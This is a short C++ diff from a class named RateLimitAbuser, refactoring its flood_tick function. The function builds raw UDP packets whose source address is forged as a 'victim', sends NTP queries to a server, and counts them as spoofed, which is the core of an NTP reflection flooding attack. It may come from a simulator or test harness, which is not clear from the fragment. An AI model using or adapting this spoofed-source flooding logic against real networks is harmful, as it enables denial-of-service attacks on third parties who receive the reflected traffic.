@@ -46,11 +46,9 @@ void RateLimitAbuser::flood_tick(Ipv4Addr server) {
   pkt.src = victim_;
   pkt.dst = server;
   pkt.protocol = net::kProtoUdp;
-  pkt.payload = net::encode_udp(
-      net::UdpDatagram{.src_port = kNtpPort, .dst_port = kNtpPort,
-                       .payload = encode_ntp(query)},
-      victim_, server);
-  stack_.send_raw(pkt);
+  pkt.payload = net::encode_udp_buf(encode_ntp_buf(query), kNtpPort, kNtpPort,
+                                    victim_, server);
+  stack_.send_raw(std::move(pkt));
   spoofed_++;
 
   it->second = stack_.loop().schedule_after(
